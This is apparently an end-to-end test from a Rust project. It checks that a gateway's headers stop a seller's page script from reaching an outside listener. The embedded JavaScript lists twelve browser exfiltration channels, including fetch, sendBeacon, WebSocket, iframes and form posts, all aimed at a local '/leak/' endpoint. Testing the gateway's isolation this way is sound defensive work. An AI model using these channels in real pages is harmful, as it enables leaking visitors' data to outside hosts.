//! Attack 9: a seller's script in a real browser: past every network policy of the cluster, and kept by the gateway's headers.

use std::{
    collections::BTreeSet,
    net::SocketAddr,
    path::PathBuf,
    sync::{Arc, Mutex, PoisonError},
};

use tokio::{
    io::AsyncWriteExt,
    net::{TcpListener, TcpStream},
};
use vitrine_devcluster::{host, progress};
use vitrine_e2e::{
    installed::{Shop, together},
    request,
};
use vitrine_kit::browser;

/// The ways out that a page's script has without its visitor's help. Navigating itself is not among them: no header stops it.
const WAYS: &str = r#"
  fetch: () => fetch(at + 'fetch', {mode: 'no-cors'}),
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', at + 'xhr'); x.send(); },
  beacon: () => navigator.sendBeacon(at + 'beacon', 'x'),
  image: () => { new Image().src = at + 'image'; },
  script: () => add('script', {src: at + 'script'}),
  style: () => add('link', {rel: 'stylesheet', href: at + 'style'}),
  frame: () => add('iframe', {src: at + 'frame'}),
  object: () => add('object', {data: at + 'object'}),
  audio: () => add('audio', {src: at + 'audio', preload: 'auto'}),
  websocket: () => new WebSocket(at.replace('http', 'ws') + 'websocket'),
  eventsource: () => new EventSource(at + 'eventsource'),
  form: () => { add('iframe', {name: 'sink'}); add('form', {action: at + 'form', method: 'post', target: 'sink'}).submit(); }"#;

fn page(port: u16) -> String {
    format!(
        "<!doctype html><title>try</title><body><script>
const at = 'http://127.0.0.1:{port}/leak/';
const add = (tag, fields) => {{ const e = Object.assign(document.createElement(tag), fields); document.body.append(e); return e; }};
const ways = {{{WAYS}
}};
for (const run of Object.values(ways)) {{ try {{ const p = run(); if (p && p.catch) p.catch(() => 0); }} catch (e) {{}} }}
setTimeout(() => document.body.append('tried them all'), 3000);
</script></body>\n"
    )
}

/// Somebody outside who listens, and serves the same page without a gateway for comparison.
#[derive(Clone)]
struct Outside {
    address: SocketAddr,
    heard: Arc<Mutex<BTreeSet<String>>>,
}

impl Outside {
    async fn listen() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let outside = Self {
            address: listener.local_addr().unwrap(),
            heard: Arc::default(),
        };
        let own = outside.clone();
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let own = own.clone();
                // A browser opens connections that it does not use.
                tokio::spawn(async move { own.answer(stream).await.ok() });
            }
        });
        outside
    }

    async fn answer(&self, mut stream: TcpStream) -> std::io::Result<()> {
        let Some(head) = request::head(&mut stream).await? else {
            return Ok(());
        };
        let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
        let body = if path == "/control" {
            page(self.address.port())
        } else {
            String::new()
        };
        if let Some(way) = path.strip_prefix("/leak/") {
            self.heard
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .insert(way.to_owned());
        }
        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n";
        let answer = format!("{head}Content-Length: {}\r\n\r\n{body}", body.len());
        stream.write_all(answer.as_bytes()).await
    }

    fn heard(&self) -> BTreeSet<String> {
        std::mem::take(&mut *self.heard.lock().unwrap_or_else(PoisonError::into_inner))
    }
}

/// Visits an address with a browser that was never anywhere.
async fn visit(name: &str, url: String) -> String {
    let profile: PathBuf =
        std::env::temp_dir().join(format!("vitrine-browser-{name}-{}", std::process::id()));
    let kept = profile.clone();
    let seen = tokio::task::spawn_blocking(move || browser::read(&url, &kept))
        .await
        .unwrap();
    std::fs::remove_dir_all(&profile).unwrap();
    seen.unwrap_or_else(|error| panic!("{error}"))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_products_script_reaches_nobody_else_from_a_visitors_browser() {
    let _together = together().await;
    host::ensure(host::BROWSER, progress::for_stderr(true).as_ref()).unwrap();
    let outside = Outside::listen().await;
    let shop = Shop::open("browser").await;
    let script = format!(
        "mkdir -p /data/www; cat > /data/www/index.html <<'END'\n{}END\nexec httpd -f -p 8090 -h /data/www",
        page(outside.address.port())
    );
    let live = shop.live("script", &script, "3m").await;

    let control = visit("control", format!("http://{}/control", outside.address)).await;
    assert!(control.contains("tried them all"), "{control}");
    let ways: BTreeSet<String> = WAYS
        .lines()
        .filter_map(|line| Some(line.trim().split_once(": ")?.0.to_owned()))
        .collect();
    assert_eq!(outside.heard(), ways, "without a gateway every way leads out");

    let link = format!("http://{}:{}{}", live.host, shop.vitrine.port, live.open);
    let preview = visit("preview", link).await;
    assert!(preview.contains("tried them all"), "{preview}");
    assert_eq!(outside.heard(), BTreeSet::new(), "through the gateway none does");
    println!(
        "of {} ways out of a browser, none is open to a product's script",
        ways.len()
    );
    shop.close().await;
}
